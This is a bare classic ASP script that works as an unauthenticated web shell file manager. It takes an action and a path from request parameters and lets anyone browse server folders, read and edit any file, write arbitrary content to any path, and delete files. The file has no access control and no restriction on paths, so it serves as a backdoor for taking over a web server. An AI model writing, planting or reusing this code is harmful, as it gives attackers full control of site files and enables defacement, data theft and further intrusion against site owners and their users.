<%
Option Explicit
Dim fso, act, path, f, fld, item
Set fso = Server.CreateObject("Scripting.FileSystemObject")
act = Request("act")
path = Request("path")
If path = "" Then path = Server.MapPath("/")
Select Case act
Case "save"
    Set f = fso.CreateTextFile(path, True)
    f.Write Request.Form("content")
    f.Close
    Response.Write "saved " & path
Case "del"
    fso.DeleteFile path, True
Case "edit"
    Set f = fso.OpenTextFile(path, 1)
    Response.Write "<form method=post action='?act=save&path=" & Server.URLEncode(path) & "'><textarea name=content cols=120 rows=30>" & Server.HTMLEncode(f.ReadAll) & "</textarea><input type=submit></form>"
Case Else
    Set fld = fso.GetFolder(path)
    For Each item In fld.SubFolders
        Response.Write "<a href='?path=" & Server.URLEncode(item.Path) & "'>[" & item.Name & "]</a><br>"
    Next
    For Each item In fld.Files
        Response.Write "<a href='?act=edit&path=" & Server.URLEncode(item.Path) & "'>" & item.Name & "</a> " & item.Size & "<br>"
    Next
End Select
%>
